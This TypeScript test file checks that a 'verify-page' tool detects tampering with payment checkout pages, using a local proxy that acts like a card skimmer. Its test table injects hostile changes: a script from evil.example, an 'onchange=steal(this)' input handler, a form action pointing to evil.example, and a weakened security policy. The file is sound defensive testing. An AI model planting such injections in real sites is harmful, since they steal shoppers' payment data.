// `guichet verify-page` tells a page as it was made from one that was tampered with on its way: here a proxy does what a skimmer would.
import { execFile } from "node:child_process";
import { once } from "node:events";
import { createServer, request as ask, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { BINARY } from "../server";
import { expect, test } from "../fixtures";
import { ask as order, path, pay, NUMBERS } from "./checkout";

type Change = { page?: (html: string) => string; headers?: (headers: Record<string, string | undefined>) => void; file?: RegExp };

/** A proxy before the server that changes what goes by. */
async function tampering(change: Change): Promise<{ url: string; close: () => void }> {
  const server = createServer((asked: IncomingMessage, answer: ServerResponse) => {
    // Nothing is packed on the way here: it is read.
    const headers = { ...asked.headers, "accept-encoding": "identity" };
    const onward = ask(`${process.env.GUICHET_URL}${asked.url}`, { method: asked.method, headers, agent: false }, async (theirs) => {
      const chunks: Buffer[] = [];
      for await (const chunk of theirs) chunks.push(chunk);
      let body = Buffer.concat(chunks);
      const said: Record<string, string | undefined> = Object.fromEntries(Object.entries(theirs.headers).map(([name, value]) => [name, String(value)]));
      if (String(said["content-type"]).startsWith("text/html")) {
        body = Buffer.from(change.page?.(body.toString()) ?? body);
        change.headers?.(said);
      }
      if (change.file?.test(asked.url ?? "")) body = Buffer.concat([body, Buffer.from("\n")]);
      for (const name of ["content-length", "transfer-encoding", "connection"]) delete said[name];
      for (const [name, value] of Object.entries(said)) if (value !== undefined) answer.setHeader(name, value);
      answer.writeHead(theirs.statusCode ?? 502).end(body);
    });
    asked.pipe(onward);
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => server.close() };
}

function verified(url: string): Promise<{ code: number; said: string }> {
  return new Promise((done) => {
    execFile(BINARY, ["verify-page", url], (error, out, err) => done({ code: typeof error?.code === "number" ? error.code : error ? 99 : 0, said: `${out}${err}` }));
  });
}

test("pages as they were made are found to be so", async ({ page, request, demo }) => {
  const [fresh, asked, paid] = [await order(request, demo), await order(request, demo), await order(request, demo)];
  await page.goto(path(asked));
  await pay(page, NUMBERS.challenge);
  await page.waitForURL(/\/bank\//);
  const bank = new URL(page.url()).pathname;
  await page.goto(path(paid));
  await pay(page, NUMBERS.pays);
  await expect(page.locator("h2, h1").first()).toBeVisible();
  for (const at of [path(fresh), `${path(fresh)}?lang=fr&test=1`, path(asked), path(paid), bank, "/dashboard/sign-in"]) {
    const { code, said } = await verified(`${process.env.GUICHET_URL}${at}`);
    expect(said, at).not.toContain("DIFFERS");
    expect(code, `${at}: ${said}`).toBe(0);
  }
  const manifest = await (await request.get("/scripts.json")).json();
  expect(manifest.length).toBeGreaterThan(8);
  for (const entry of manifest) expect(entry).toMatchObject({ integrity: expect.stringMatching(/^sha384-/), reason: expect.stringMatching(/\.$/) });
});

test("a page, a file or a header that was changed on its way is named", async ({ request, demo }) => {
  const fresh = path(await order(request, demo));
  const nonce = (html: string) => /nonce="([^"]+)"/.exec(html)?.[1];
  const changes: [string, Change, RegExp][] = [
    ["nothing", {}, /^$/],
    ["a script with the page's own nonce", { page: (html) => html.replace("</body>", `<script nonce="${nonce(html)}">x()</script></body>`) }, /inline script: sha384-\S+ is in no manifest: "x\(\)"/],
    ["a script from elsewhere", { page: (html) => html.replace("</head>", '<script src="https://evil.example/x.js"></script></head>') }, /evil\.example.*is no (part of this page|file of these pages)/],
    ["a handler", { page: (html) => html.replace("<input", "<input onchange=steal(this)") }, /<input onchange="steal\(this\)"> is no part/],
    ["another address for the form", { page: (html) => html.replace('<form method="post"', '<form method="post" action="https://evil.example/"') }, /<form action="https:\/\/evil\.example\/"> is no part/],
    ["a frame", { page: (html) => html.replace("</body>", "<iframe src=/x></iframe></body>") }, /<iframe> is no part/],
    ["an integrity taken out", { page: (html) => html.replace(/ integrity="[^"]*"/, "") }, /integrity missing|is in no manifest|style sheet/],
    ["a script of ours, changed", { page: (html) => html.replace('put("number"', 'send("number"') }, /inline script: sha384-\S+ is in no manifest/],
    ["a file", { file: /checkout-.*\.js/ }, /\/assets\/checkout-\S+\.js: sha384-\S+ was received instead of sha384-/],
    ["a policy that allows more", { headers: (headers) => (headers["content-security-policy"] += "; script-src-elem *") }, /header content-security-policy/],
    ["a policy left out", { headers: (headers) => (headers["content-security-policy"] = undefined) }, /header content-security-policy: missing/],
    ["a header left out", { headers: (headers) => (headers["x-content-type-options"] = undefined) }, /header x-content-type-options: missing/],
    ["a header that loads", { headers: (headers) => (headers.link = "<https://evil.example/x.css>; rel=stylesheet") }, /header link/],
    ["a page kept by caches", { headers: (headers) => (headers["cache-control"] = "public, max-age=60") }, /header cache-control/],
  ];
  for (const [what, change, named] of changes) {
    const proxy = await tampering(change);
    const { code, said } = await verified(`${proxy.url}${fresh}`);
    proxy.close();
    const differs = said.split("\n").filter((line) => line.startsWith("DIFFERS")).join("\n");
    expect(differs, `${what}: ${said}`).toMatch(named);
    expect(code, `${what}: ${said}`).toBe(what === "nothing" ? 0 : 1);
  }
  expect((await verified("https://127.0.0.1:1/pi_x")).code).toBe(1);
  expect((await verified("pi_x")).said).toContain("expected the address of a page");
});
